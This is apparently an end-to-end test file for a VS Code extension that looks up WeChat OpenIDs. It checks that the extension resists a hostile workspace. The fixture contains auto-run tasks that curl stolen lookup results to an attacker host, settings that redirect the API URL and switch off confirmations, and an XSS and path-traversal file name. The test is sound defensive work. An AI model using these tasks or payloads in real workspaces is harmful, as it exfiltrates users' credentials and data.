import assert from 'node:assert/strict';

import { keychainService } from '../../../src/manifest';
import { type SimulatedWeChat, startWeChat } from '../../wechat';
import { addOfficialAccount } from '../accounts/addOfficialAccount';
import { filesHolding } from '../filesHolding';
import { eventually, useWindow } from '../window';

/** A workspace that wants whatever it could: other hosts, results without questions, commands that run by themselves. */
function hostileFiles(attacker: string, openid: string): Record<string, string> {
  const lookUp = { command: 'wechatOpenid.lookup', args: { openid, show: false } };
  const inputs = [{ id: 'stolen', type: 'command', ...lookUp }];
  const task = (label: string, command: string) => ({
    ...{ label, type: 'shell', command, runOptions: { runOn: 'folderOpen' }, problemMatcher: [] },
  });
  return {
    '.vscode/settings.json': JSON.stringify({
      'wechatOpenid.apiBaseUrl': attacker,
      'wechatOpenid.credentialStore': 'vscode',
      'wechatOpenid.exportedApi.enabled': true,
      'wechatOpenid.languageModelTools.enabled': true,
      'wechatOpenid.confirmAbove': 1_000_000,
      'wechatOpenid.confirmChanges': false,
      'wechatOpenid.history.retentionDays': 0,
      'task.allowAutomaticTasks': 'on',
    }),
    '.vscode/tasks.json': JSON.stringify({
      version: '2.0.0',
      tasks: [
        task('by input', 'curl -d "${input:stolen}" ' + attacker),
        task('by command', 'curl -d "${command:wechatOpenid.batchFetch}" ' + attacker),
      ],
      inputs,
    }),
    '.vscode/extensions.json': JSON.stringify({
      recommendations: ['wechat-openid-lens.wechat-openid-lens', 'evil.exporter'],
    }),
    '$(zap) <img src=x onerror=alert(1)> ..%2f list.json': JSON.stringify([openid]),
    'README.md': `[look](command:wechatOpenid.removeEverything) ![x](${attacker}/${openid}) ${openid}`,
    'openids.log': `openid=${openid} apiBaseUrl=${attacker} {"errcode":40001,"errmsg":"go to ${attacker}"}\n`,
  };
}

for (const isTrusted of [true, false])
  describe(`a hostile workspace, ${isTrusted ? 'trusted' : 'in Restricted Mode'}`, () => {
    let wechat: SimulatedWeChat;
    let attacker: SimulatedWeChat;
    let files: Record<string, string> = {};
    let openid = '';

    before(async () => {
      [wechat, attacker] = await Promise.all([startWeChat({ followers: 30 }), startWeChat()]);
      [openid = ''] = wechat.accounts[0].openids({ state: 'following' }, 1);
      files = hostileFiles(attacker.url, openid);
    });
    after(() => Promise.all([wechat.close(), attacker.close()]));
    const opened = useWindow(() => ({
      ...{ wechat, files },
      settings: { 'security.workspace.trust.enabled': isTrusted ? false : undefined },
    }));

    it('starts no request and moves no data when it is opened, and its files are looked at', async () => {
      const { window } = opened();
      await window.sidebar.open('Explorer');
      await window.sidebar.row('list.json').waitFor();
      await window.editor.open('openids.log');
      await window.editor.open('README.md');
      await window.sidebar.open('OpenID Lens');
      await window.page.getByRole('button', { name: 'Add Official Account' }).first().waitFor();
      assert.deepEqual([wechat.requests, attacker.requests], [[], []]);
    });

    it('has no say in where the secret goes, where it is kept, and what is kept', async () => {
      const { window, keyringEntries, dataFolder } = opened();
      const [account] = wechat.accounts;
      await addOfficialAccount(window, account);
      assert.ok((await keyringEntries(keychainService)).includes(account.secret));
      await window.run('WeChat: Look Up OpenID…');
      await window.quickInput.enter('Look Up OpenID', openid);
      await window.webview.getByText(openid).first().waitFor();
      assert.ok(wechat.requests.length > 0);
      assert.deepEqual(attacker.requests, []);
      assert.ok((await filesHolding(dataFolder, openid)).some(file => file.includes('/lookups/')));
      assert.deepEqual(await filesHolding(dataFolder, account.secret), []);
    });

    it('shows its file names as text where they are used', async () => {
      const { window } = opened();
      await window.sidebar.open('Explorer');
      await window.sidebar.choose('list.json', 'Fetch Profiles from List…');
      await window.webview.getByRole('heading', { name: '$(zap) <img src=x onerror=alert(1)>' }).waitFor();
      await window.webview.locator('#row-0').waitFor();
      await window.screenshot(`hostile-workspace-${isTrusted ? 'trusted' : 'restricted'}`);
      assert.deepEqual(attacker.requests, []);
    });

    it('is outlived by nothing once everything is removed', async () => {
      const { window, storageFolder, keyringEntries } = opened();
      await window.run('WeChat: Remove Everything…');
      await window.notifications.dialog('Accounts: 1, batches: 1').waitFor();
      await window.screenshot('remove-everything');
      await window.notifications.answer('Remove everything that', 'Remove Everything');
      await window.notifications.message('Removed. Accounts: 1, batches: 1');
      assert.ok(!(await keyringEntries(keychainService)).includes(wechat.accounts[0].secret));
      await eventually(async () => assert.deepEqual(await filesHolding(storageFolder, openid), []));
      await window.sidebar.open('OpenID Lens');
      await window.page.getByRole('button', { name: 'Add Official Account' }).first().waitFor();
      assert.deepEqual(attacker.requests, []);
    });
  });
